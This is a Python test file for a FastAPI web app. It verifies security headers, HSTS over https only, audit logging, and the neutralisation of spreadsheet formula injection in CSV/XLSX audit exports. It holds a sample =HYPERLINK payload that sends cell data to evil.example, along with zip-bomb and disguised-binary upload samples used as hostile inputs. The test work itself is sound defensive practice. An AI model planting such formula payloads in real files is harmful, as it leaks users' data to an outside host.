"""Hostile input and audit at the web edge (issue 13 items 5–6): security headers on every route
family (HSTS only over https), formula injection inert in the audit exports (csv and xlsx) and the
export itself audited with the subject's address, enterprise views audited, and a zip bomb or a
renamed binary refused at upload with a clear message and nothing written."""

from __future__ import annotations

import csv
import html
import io
import re
import sys
import zipfile
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from shanhai.reports import _safe
from shanhai.store.connection import Store
from shanhai.web.app import app_routes
from web_helpers import csrf_of

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "ingest"))
from test_security_guard import zip_bomb  # noqa: E402

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'
ADDRESSES = {"admin": "10.10.0.1", "province": "10.10.0.2", "city": "10.10.0.3", "county": "10.10.0.4"}


def _rows(app, sql: str) -> list[tuple]:
    app.state.jobs.flush()
    cur = app.state.store.con.cursor()
    try:
        return Store(app.state.db_path, cur, False).con.execute(sql).fetchall()
    finally:
        cur.close()


def _check_headers(response, where: str) -> None:
    h = response.headers
    csp = h.get("content-security-policy", "")
    assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp, where
    script = re.search(r"script-src ([^;]*)", csp).group(1)
    assert "unsafe-inline" not in script and "unsafe-eval" not in script, where
    assert h.get("x-frame-options") == "DENY", where
    assert h.get("x-content-type-options") == "nosniff", where
    assert h.get("referrer-policy") == "same-origin", where
    assert "strict-transport-security" not in h, where   # plain http: no HSTS


def _fill(path: str) -> str:
    return re.sub(r"{[^}]+}", "nosuchid", path)


def test_security_headers_on_every_route_family(app, clients, anonymous):
    """Every GET route, for a signed-in admin and for an anonymous caller, whatever the status
    (200, redirect, 401, 403, 404, 422), plus static files, unknown paths and refused POSTs."""
    seen = 0
    for route in app_routes(app):
        if "GET" not in (getattr(route, "methods", None) or ()):
            continue
        url = _fill(route.path)
        for client in (clients["admin"], anonymous):
            r = client.get(url, follow_redirects=False)
            assert r.status_code < 500, (url, r.status_code)
            _check_headers(r, f"GET {url} -> {r.status_code}")
            seen += 1
    assert seen > 100
    for url in ("/static/js/app.js", "/no/such/page", "/api/v1/no-such"):
        _check_headers(anonymous.get(url), url)
    refused = clients["county"].post("/data/import", data={"kind": "towns"})   # no CSRF token
    assert refused.status_code == 403
    _check_headers(refused, "POST without CSRF")


def test_hsts_only_over_https(app):
    secure = TestClient(app, base_url="https://testserver", client=("10.10.9.1", 50000))
    r = secure.get("/signin")
    assert r.headers.get("strict-transport-security", "").startswith("max-age=")
    assert int(r.headers["strict-transport-security"].split("=")[1].split(";")[0]) >= 15552000  # ≥ 180 days
    plain = TestClient(app, client=("10.10.9.2", 50000)).get("/signin")
    assert "strict-transport-security" not in plain.headers


def test_formula_injection_is_inert_in_the_audit_exports(app, clients, anonymous):
    token = csrf_of(anonymous, "/signin")
    anonymous.post("/signin", data={"username": EVIL, "password": "wrong-password-1", "csrf_token": token},
                   follow_redirects=False)
    admin = clients["admin"]
    body = admin.get("/admin/audit/export?format=csv&action=sign_in").content.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(body)) for c in row]
    assert "'" + EVIL in cells and EVIL not in cells
    assert not any(c.startswith(_safe.DANGEROUS) and not re.fullmatch(r"-?\d+(\.\d+)?", c) for c in cells)
    book = admin.get("/admin/audit/export?format=xlsx&action=sign_in").content
    with zipfile.ZipFile(io.BytesIO(book)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
        strings = z.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet           # no formula cell anywhere
    assert EVIL in html.unescape(strings)                      # the text kept, as text
    exports = _rows(app, "SELECT username, client, result FROM audit_log WHERE action = 'export' "
                         "AND target = 'audit_log' ORDER BY seq DESC LIMIT 2")
    assert exports == [("t-admin", ADDRESSES["admin"], "success")] * 2


def test_safe_cells_keep_numbers_and_neutralise_text():
    assert [_safe.cell(v) for v in (-12.5, -3, "-12.5", "+7", "正常", "")] == [-12.5, -3, "-12.5", "+7", "正常", ""]
    assert [_safe.cell(v) for v in ("=1+1", "+A1", "-A1", "@SUM(A1)", "\tx", "\rx", "-2+3")] == \
        ["'=1+1", "'+A1", "'-A1", "'@SUM(A1)", "'\tx", "'\rx", "'-2+3"]


def test_a_firm_view_is_audited_with_subject_and_object(app, clients, web_db):
    uscc = web_db.firm_in[0]
    assert clients["county"].get(f"/mujun/runs/{web_db.province_run}/enterprises/{uscc}").status_code == 200
    assert clients["county"].get(f"/api/v1/runs/{web_db.province_run}/enterprises/{uscc}").status_code == 200
    rows = _rows(app, f"SELECT username, client, result, json_extract_string(detail, '$.page') FROM audit_log "
                      f"WHERE action = 'view_enterprise' AND target = '{uscc}' ORDER BY seq DESC LIMIT 2")
    assert rows == [("t-county", ADDRESSES["county"], "success", "api.mujun"),
                    ("t-county", ADDRESSES["county"], "success", "mujun")]
    # a refused view (another county's firm) shows nothing and records no view
    far = web_db.firm_far[0]
    assert clients["county"].get(f"/mujun/runs/{web_db.province_run}/enterprises/{far}").status_code in (403, 404)
    assert not _rows(app, f"SELECT 1 FROM audit_log WHERE action = 'view_enterprise' AND target = '{far}' "
                          "AND username = 't-county'")


@pytest.mark.parametrize("name, make", [
    ("企业名录.xlsx", lambda folder: zip_bomb(folder / "bomb.xlsx").read_bytes()),
    ("企业名录.xlsx", lambda folder: b"MZ\x90\x00" + b"\x00" * 4000),
    ("企业名录.csv", lambda folder: b"%PDF-1.7\n" + b"x" * 4000),
    ("企业名录.xlsx", lambda folder: "统一社会信用代码,企业名称\n".encode("utf-8")),   # text named .xlsx
])
def test_hostile_uploads_are_refused_and_nothing_is_written(app, clients, web_db, tmp_path, name, make):
    c = clients["city"]
    uploads = web_db.path.parent / f"{web_db.path.name}.uploads"
    before = set(uploads.iterdir()) if uploads.exists() else set()
    datasets = _rows(app, "SELECT count(*) FROM datasets")
    jobs = len(app.state.jobs.jobs_of(web_db.users["city"], 1000))
    r = c.post("/data/import", data={"kind": "enterprises", "csrf_token": c.csrf},
               files={"file": (name, make(tmp_path), "application/octet-stream")}, follow_redirects=False)
    assert r.status_code == 400
    assert name in r.text and "未导入任何数据" in r.text
    after = set(uploads.iterdir()) if uploads.exists() else set()
    assert after == before
    assert _rows(app, "SELECT count(*) FROM datasets") == datasets
    assert len(app.state.jobs.jobs_of(web_db.users["city"], 1000)) == jobs
    refused = _rows(app, "SELECT username, client, result, target FROM audit_log WHERE action = 'import.refused' "
                         "ORDER BY seq DESC LIMIT 1")
    assert refused == [("t-city", ADDRESSES["city"], "failure", name)]
